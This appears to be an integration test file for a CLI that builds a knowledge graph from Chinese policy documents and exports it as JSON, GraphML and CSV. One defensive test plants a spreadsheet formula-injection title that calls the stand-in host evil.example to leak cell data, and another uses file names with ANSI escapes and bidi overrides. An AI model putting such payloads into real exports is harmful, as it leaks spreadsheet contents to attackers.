// The CLI as users run it: ingest seeds/, export JSON, and the error paths.
import { mkdir, readdir, readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { GraphEdge, GraphExport, GraphNode } from '../../server/src/model.ts';
import { runCli, SEEDS, tempDir } from './helpers.ts';

const SEED_FILES = ['000_3f4638d7d7188070.txt', '001_92afca926d264bc3.txt', '002_9031ce5292c2e350.txt', '003_87e0e3da8a4aaa7d.txt', '004_fdc6922baeda3b1e.txt'];

let data: { dir: string; cleanup: () => Promise<void> };
let graph: GraphExport;
let nodes: Map<string, GraphNode>;

function measuresOf(docStem: string): GraphNode[] {
  return graph.nodes.filter((n) => n.label === 'Measure' && n.properties.documentId === `doc:${docStem}`);
}
function responsibilities(measureId: string): { name: string; role: string; jurisdiction: string }[] {
  return graph.edges
    .filter((e) => e.type === 'RESPONSIBLE_FOR' && e.target === measureId)
    .map((e) => {
      const d = nodes.get(e.source)!;
      return { name: d.name, role: String(e.properties.role), jurisdiction: String(d.properties.jurisdiction) };
    });
}
function measureByNumber(docStem: string, number: string): GraphNode {
  const m = measuresOf(docStem).find((x) => x.properties.number === number);
  if (!m) throw new Error(`no measure ${number} in ${docStem}`);
  return m;
}
function namesWithRole(measureId: string, role: string): string[] {
  return responsibilities(measureId).filter((r) => r.role === role).map((r) => r.name).sort();
}

beforeAll(async () => {
  data = await tempDir('kg-cli-');
  const r = await runCli(['ingest', SEEDS, '--data', data.dir]);
  expect(r.stderr + r.stdout).toContain('ingested 5 document(s), 0 failed');
  expect(r.code).toBe(0);
  const out = path.join(data.dir, 'export.json');
  const e = await runCli(['export', '--format', 'json', '--out', out, '--data', data.dir]);
  expect(e.code).toBe(0);
  graph = JSON.parse(await readFile(out, 'utf8')) as GraphExport;
  nodes = new Map(graph.nodes.map((n) => [n.id, n]));
}, 180_000);

afterAll(async () => {
  await data?.cleanup();
});

describe('kg ingest seeds/ → export --format json', () => {
  it('writes the industry-kg/graph@1 format with one Document per seed file', () => {
    expect(graph.format).toBe('industry-kg/graph@1');
    const docs = graph.nodes.filter((n) => n.label === 'Document');
    expect(docs.map((d) => d.properties.file).sort()).toEqual(SEED_FILES);
    for (const d of docs) expect(String(d.properties.title).length).toBeGreaterThan(5);
  });

  it('finds the measures that name departments: 000 (25), 002 (10), 003 (78), 004 (21)', () => {
    const withDepts = (stem: string) => measuresOf(stem).filter((m) => responsibilities(m.id).length > 0).length;
    const named = (stem: string) =>
      measuresOf(stem).filter((m) => responsibilities(m.id).length > 0 || (Array.isArray(m.properties.collectives) && m.properties.collectives.length > 0)).length;
    expect(withDepts('000_3f4638d7d7188070')).toBe(25);
    // 002 保障措施（一） names only 区自主创新工作领导小组各成员单位, a collective kept on the measure, not a department
    expect(named('002_9031ce5292c2e350')).toBe(10);
    expect(withDepts('002_9031ce5292c2e350')).toBe(9);
    expect(withDepts('003_87e0e3da8a4aaa7d')).toBe(78);
    expect(withDepts('004_fdc6922baeda3b1e')).toBe(21);
    const numbers003 = measuresOf('003_87e0e3da8a4aaa7d').map((m) => m.properties.number);
    expect(numbers003).toContain('36-1');
    expect(numbers003).toContain('36-2');
    expect(numbers003).not.toContain('36');
  });

  it('000: (责任部门:A、B) gives every department the responsible role', () => {
    const m12 = measureByNumber('000_3f4638d7d7188070', '12');
    expect(namesWithRole(m12.id, 'responsible')).toEqual(
      ['经发局', '财政局', '商促局', '信创局', '生物医药局', '新能源局', '高端装备局', '新经济局', '自贸局', '海泰集团'].sort(),
    );
    const m15 = measureByNumber('000_3f4638d7d7188070', '15');
    expect(responsibilities(m15.id)).toEqual([{ name: '信创局', role: 'responsible', jurisdiction: '滨海高新区' }]);
  });

  it('003: （牵头部门：A，责任部门：B、C） gives lead and support', () => {
    const m3 = measureByNumber('003_87e0e3da8a4aaa7d', '3');
    expect(namesWithRole(m3.id, 'lead')).toEqual(['科技创新局']);
    expect(namesWithRole(m3.id, 'support')).toEqual(['经发局']);
    const m362 = measureByNumber('003_87e0e3da8a4aaa7d', '36-2');
    expect(namesWithRole(m362.id, 'lead')).toEqual(['科技创新局']);
    expect(namesWithRole(m362.id, 'support')).toEqual(['生物医药招商局', '市场监管局'].sort());
  });

  it('004: （A、B按职责分工负责） gives responsible, scoped to 津南区', () => {
    const m1 = measureByNumber('004_fdc6922baeda3b1e', '1');
    const r = responsibilities(m1.id);
    expect(r.map((x) => x.name).sort()).toEqual(['区科技局', '海河教育园区管委会', '区国资委', '区工业和信息化局', '区市场监管局'].sort());
    expect(new Set(r.map((x) => x.role))).toEqual(new Set(['responsible']));
    expect(r.find((x) => x.name === '区科技局')?.jurisdiction).toBe('津南区');
  });

  it('departments are scoped by jurisdiction and collectives are not departments', () => {
    const depts = graph.nodes.filter((n) => n.label === 'Department');
    const keji = depts.filter((d) => d.name === '区科技局' || d.name === '科技局');
    const jurisdictions = keji.map((d) => d.properties.jurisdiction).sort();
    expect(jurisdictions).toEqual(['津南区', '滨海新区', '滨海高新区']);
    for (const d of depts) {
      expect(d.name).not.toMatch(/^各|成员单位$|相关责任单位$/);
    }
    const m002 = measuresOf('002_9031ce5292c2e350');
    expect(m002.some((m) => JSON.stringify(m.properties.collectives ?? []).includes('各开发区'))).toBe(true);
  });

  it('every edge carries evidence that quotes the document at its offsets', () => {
    const texts = new Map(graph.nodes.filter((n) => n.label === 'Document').map((d) => [d.id, String(d.properties.text ?? '')]));
    expect(graph.edges.length).toBeGreaterThan(300);
    const bad: GraphEdge[] = [];
    for (const e of graph.edges) {
      if (e.evidence.length === 0) bad.push(e);
      for (const ev of e.evidence) {
        const text = texts.get(ev.documentId);
        if (!text || text.slice(ev.start, ev.end) !== ev.text || ev.text.length === 0) bad.push(e);
      }
    }
    expect(bad.map((e) => e.id)).toEqual([]);
  });

  it('re-ingesting the same seeds changes nothing', async () => {
    const r = await runCli(['ingest', SEEDS, '--data', data.dir]);
    expect(r.code).toBe(0);
    const again = await runCli(['export', '--format', 'json', '--data', data.dir]);
    expect(JSON.parse(again.stdout)).toEqual(graph);
  }, 120_000);

  it('exports GraphML and CSV with the same counts', async () => {
    const g = await runCli(['export', '--format', 'graphml', '--data', data.dir]);
    expect(g.code).toBe(0);
    expect((g.stdout.match(/<node /g) ?? []).length).toBe(graph.nodes.length);
    expect((g.stdout.match(/<edge /g) ?? []).length).toBe(graph.edges.length);
    const dir = path.join(data.dir, 'csv');
    const c = await runCli(['export', '--format', 'csv', '--out', dir, '--data', data.dir]);
    expect(c.code).toBe(0);
    const nodesCsv = await readFile(path.join(dir, 'nodes.csv'), 'utf8');
    expect(nodesCsv.startsWith('\uFEFFid:ID,:LABEL,name')).toBe(true);
    const edgesCsv = await readFile(path.join(dir, 'edges.csv'), 'utf8');
    expect(edgesCsv).toContain('RESPONSIBLE_FOR');
  }, 120_000);
});

describe('kg CLI errors', () => {
  it('a missing path: exit 1, names the file', async () => {
    const r = await runCli(['ingest', 'no/such/file.txt', '--data', data.dir]);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain('no/such/file.txt');
  });

  it('an unknown flag or command: exit 2 with usage', async () => {
    const a = await runCli(['ingest', SEEDS, '--bogus']);
    expect(a.code).toBe(2);
    expect(a.stderr).toMatch(/bogus/);
    const b = await runCli(['frobnicate']);
    expect(b.code).toBe(2);
    expect(b.stderr).toContain('unknown command');
    const c = await runCli(['export', '--format', 'xml', '--data', data.dir]);
    expect(c.code).toBe(2);
    expect(c.stderr).toContain('xml');
  });

  it('an unreadable document fails with its name and leaves the store as it was', async () => {
    const dir = path.join(data.dir, 'bad');
    await mkdir(dir, { recursive: true });
    const bad = path.join(dir, 'broken.txt');
    await writeFile(bad, Buffer.from([0x00, 0xff, 0xfe, 0x00, 0x81, 0x00, 0x00, 0x9f, 0x00]));
    const r = await runCli(['ingest', bad, '--data', data.dir]);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain('broken.txt');
    const after = await runCli(['export', '--format', 'json', '--data', data.dir]);
    expect(JSON.parse(after.stdout)).toEqual(graph);
  }, 60_000);

  it('remove deletes one document and keeps the rest; unknown ids fail', async () => {
    const copy = await tempDir('kg-remove-');
    try {
      // One group commit (a long group wait, so the second file always joins): one manifest generation, a batch file each.
      expect((await runCli(['ingest', path.join(SEEDS, SEED_FILES[4]!), path.join(SEEDS, SEED_FILES[0]!), '--data', copy.dir], { KG_INGEST_GROUP_MS: '600000' })).code).toBe(0);
      expect((JSON.parse(await readFile(path.join(copy.dir, 'manifest.json'), 'utf8')) as { generation: number }).generation).toBe(1);
      expect(await readdir(path.join(copy.dir, 'batches'))).toHaveLength(2);
      const r = await runCli(['remove', SEED_FILES[4]!, '--data', copy.dir]);
      expect(r.code).toBe(0);
      const g = JSON.parse((await runCli(['export', '--data', copy.dir])).stdout) as GraphExport;
      expect(g.nodes.filter((n) => n.label === 'Document').map((n) => n.id)).toEqual(['doc:000_3f4638d7d7188070']);
      expect(g.nodes.some((n) => n.properties.jurisdiction === '津南区')).toBe(false);
      const u = await runCli(['remove', 'doc:nope', '--data', copy.dir]);
      expect(u.code).toBe(1);
      expect(u.stderr).toContain('doc:nope');
    } finally {
      await copy.cleanup();
    }
  }, 120_000);
});

describe('kg export --format csv: formula injection (issue 10)', () => {
  it('a document titled =HYPERLINK(…) exports as text, not as a formula', async () => {
    const tmp = await tempDir('kg-csv-');
    try {
      const file = path.join(tmp.dir, 'evil.txt');
      await writeFile(file, '某区措施\n一、主要任务\n1.支持企业研发。（牵头单位：区科技局）\n');
      // The title comes from the curated meta.json beside the documents (as a user would write it).
      await writeFile(path.join(tmp.dir, 'meta.json'), JSON.stringify({ 'evil.txt': { title: '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")' } }));
      expect((await runCli(['ingest', file, '--data', tmp.dir])).code).toBe(0);
      const out = path.join(tmp.dir, 'csv');
      expect((await runCli(['export', '--format', 'csv', '--out', out, '--data', tmp.dir])).code).toBe(0);
      const csv = await readFile(path.join(out, 'nodes.csv'), 'utf8');
      const row = csv.split('\n').find((l) => l.startsWith('doc:evil,'))!;
      expect(row).toContain(`,"'=HYPERLINK(`);
      // No cell of either file starts with a formula character.
      for (const f of ['nodes.csv', 'edges.csv']) {
        const text = (await readFile(path.join(out, f), 'utf8')).replace(/^\uFEFF/, '');
        for (const line of text.split('\n')) expect(line, f).not.toMatch(/(^|,)"?[=+@]/);
      }
      // The JSON export keeps the exact title.
      const json = JSON.parse((await runCli(['export', '--format', 'json', '--data', tmp.dir])).stdout) as GraphExport;
      expect(json.nodes.find((n) => n.id === 'doc:evil')!.name).toMatch(/^=HYPERLINK/);
    } finally {
      await tmp.cleanup();
    }
  }, 60_000);
});

describe('kg ingest: file names that would break exports or collide', () => {
  it('refuses names with newlines, ANSI escapes or bidi overrides, names them escaped, ingests the rest', async () => {
    const tmp = await tempDir('kg-names-');
    try {
      const text = '某区措施\n1.支持企业研发。（牵头单位：区科技局）\n';
      for (const n of ['a\nb.txt', '\u001b[31mred.txt', 'report\u202etxt.txt', 'ok.txt']) await writeFile(path.join(tmp.dir, n), text);
      const r = await runCli(['ingest', tmp.dir, '--data', path.join(tmp.dir, 'data')]);
      expect(r.code).toBe(1);
      expect(r.stdout).toContain('ingested 1 document(s), 3 failed');
      expect(r.stderr).toContain('\\u202e');
      expect(r.stderr).toContain('\\u001b');
      expect(r.stderr).not.toMatch(/[\u001b\u202e]/);
    } finally {
      await tmp.cleanup();
    }
  }, 60_000);
});

describe('kg user / kg token', () => {
  it('adds users with roles, prints a generated password once, issues and revokes tokens', async () => {
    const tmp = await tempDir('kg-users-');
    try {
      const add = await runCli(['user', 'add', '王工', '--role', 'editor', '--data', tmp.dir]);
      expect(add.code).toBe(0);
      const pw = /password \(shown only once\): (\S+)/.exec(add.stdout)![1]!;
      const users = await readFile(path.join(tmp.dir, 'users.json'), 'utf8');
      expect(users).toContain('"王工"');
      expect(users).not.toContain(pw);
      const tok = await runCli(['token', 'create', '--user', '王工', '--label', 'ci', '--data', tmp.dir]);
      expect(tok.code).toBe(0);
      expect(tok.stdout.trim()).toMatch(/^kg_[0-9a-f]{12}_\S+$/); // the token alone on stdout
      const id = tok.stdout.trim().split('_')[1]!;
      expect((await runCli(['user', 'role', '王工', '--role', 'admin', '--data', tmp.dir])).code).toBe(0);
      // KG_DATA is honoured like --data (one config parser for every command).
      expect((await runCli(['user', 'list'], { KG_DATA: tmp.dir })).stdout).toMatch(/王工\tadmin\t1 token/);
      expect((await runCli(['token', 'revoke', id, '--data', tmp.dir])).code).toBe(0);
      const log = await readFile(path.join(tmp.dir, 'writes.log'), 'utf8');
      expect(log).toMatch(/"action":"user".*"detail":"add 王工 editor"/);
      expect(log).toMatch(/"action":"token".*"detail":"revoke /);
    } finally {
      await tmp.cleanup();
    }
  }, 60_000);

  it('kg serve validates PORT like npm start does (exit 2 for a bad port)', async () => {
    const r = await runCli(['serve', '--data', data.dir], { PORT: '70000' });
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/invalid port "70000"/);
  }, 60_000);
});
